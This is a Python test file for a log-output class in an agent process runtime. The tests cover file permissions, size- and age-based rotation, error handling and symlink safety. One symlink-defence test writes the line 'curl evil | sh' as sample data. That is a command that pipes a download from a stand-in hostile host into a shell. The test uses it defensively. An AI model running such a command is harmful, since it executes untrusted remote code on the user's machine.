"""The output file: all of it, in files of a bounded size, and never in the session's way."""

import asyncio
import logging
import os
from pathlib import Path

import pytest

from muster.runtimes.process.output_file import INLINE_BYTES_MAX, OUTPUT_FILE, OutputFile
from tests.builders import run
from tests.runtimes.programs import open_files


def test_output_is_appended_to_one_file_that_only_its_owner_reads(tmp_path: Path) -> None:
    async def scene() -> None:
        folder = tmp_path / "agents" / "Ada"
        await OutputFile(folder, kept=2).append(b"one\n")
        await OutputFile(folder, kept=2).append(b"two\n")
        path = folder / OUTPUT_FILE
        assert path.read_bytes() == b"one\ntwo\n"
        assert path.stat().st_mode & 0o777 == 0o600
        assert folder.stat().st_mode & 0o777 == 0o700

    run(scene())


def test_a_large_file_is_put_aside_and_the_oldest_is_let_go(tmp_path: Path) -> None:
    async def scene() -> None:
        file = OutputFile(tmp_path, kept=2, bytes_max=10)
        for text in (b"aaaaaa", b"bbbbbb", b"cccccc", b"dd", b"eeeeee"):
            await file.append(text)

    run(scene())
    found = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    assert found == {
        "output.log": b"eeeeee",
        "output.log.1": b"ccccccdd",
        "output.log.2": b"bbbbbb",
    }


def test_large_chunks_are_written_whole_and_in_order(tmp_path: Path) -> None:
    chunks = [bytes([number]) * (INLINE_BYTES_MAX + 1) for number in range(5)]

    async def scene() -> None:
        file = OutputFile(tmp_path, kept=1)
        for chunk in chunks:
            await file.append(chunk)

    run(scene())
    assert (tmp_path / OUTPUT_FILE).read_bytes() == b"".join(chunks)


def test_a_file_that_cannot_be_written_is_said_once_and_stops_nobody(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    async def scene() -> None:
        (tmp_path / OUTPUT_FILE).mkdir()
        file = OutputFile(tmp_path, kept=1)
        for _ in range(3):
            await file.append(b"text")
            await file.append(b"text" * INLINE_BYTES_MAX)

    with caplog.at_level(logging.WARNING):
        run(scene())
    assert [record.message for record in caplog.records] == [
        f"cannot write {tmp_path / OUTPUT_FILE}: Is a directory. "
        "The session goes on, its output is not kept there"
    ]


def test_a_file_in_the_place_of_the_folder_stops_nobody(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "Ada").write_text("no folder")
    asyncio.run(OutputFile(tmp_path / "Ada", kept=1).append(b"text"))
    assert len(caplog.records) == 1


def test_an_agent_cannot_have_its_words_written_into_another_file(tmp_path: Path) -> None:
    """A link in the place of the file was followed."""
    profile = tmp_path / "profile"
    profile.write_bytes(b"mine\n")
    (tmp_path / "output.log").symlink_to(profile)
    asyncio.run(OutputFile(tmp_path, kept=2).append(b"curl evil | sh\n"))
    assert profile.read_bytes() == b"mine\n"


def test_no_file_is_held_open(tmp_path: Path) -> None:
    async def scene() -> None:
        file = OutputFile(tmp_path, kept=1, bytes_max=10)
        await file.append(b"a")  # what the loop itself opens is open now
        before = open_files()
        for _ in range(20):
            await file.append(b"aaaa")
        assert not open_files() - before

    run(scene())


DAY = 86_400
NOON = 20_000 * DAY + DAY // 2


def contents(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def test_with_an_age_a_file_has_one_day_and_older_files_are_removed(tmp_path: Path) -> None:
    days: list[float] = []
    file = OutputFile(tmp_path, kept=9, days=2, now=lambda: days[-1])

    async def scene() -> None:
        for number, text in enumerate((b"mon", b"tue", b"wed", b"thu")):
            for hours in (0, 1):
                days.append(NOON + number * DAY + hours * 3600)
                await file.append(text)
                os.utime(tmp_path / OUTPUT_FILE, (days[-1], days[-1]))

    run(scene())
    assert contents(tmp_path) == {
        "output.log": b"thuthu",
        "output.log.1": b"wedwed",
        "output.log.2": b"tuetue",
    }


def test_files_that_are_too_old_or_too_many_go_with_the_next_output(tmp_path: Path) -> None:
    for number, age in (("1", 1), ("2", 30), ("3", 1), ("x", 30), ("1.gz", 30)):
        path = tmp_path / f"{OUTPUT_FILE}.{number}"
        path.write_text(number)
        os.utime(path, (NOON - age * DAY, NOON - age * DAY))
    run(OutputFile(tmp_path, kept=2, days=7, now=lambda: NOON).append(b"new"))
    assert sorted(contents(tmp_path)) == [
        "output.log",
        "output.log.1",
        "output.log.1.gz",
        "output.log.x",
    ]


def test_without_an_age_old_files_stay_and_days_share_a_file(tmp_path: Path) -> None:
    (tmp_path / OUTPUT_FILE).write_text("old ")
    (tmp_path / f"{OUTPUT_FILE}.1").write_text("older")
    for path in tmp_path.iterdir():
        os.utime(path, (0, 0))
    run(OutputFile(tmp_path, kept=2, now=lambda: NOON).append(b"new"))
    assert contents(tmp_path) == {"output.log": b"old new", "output.log.1": b"older"}
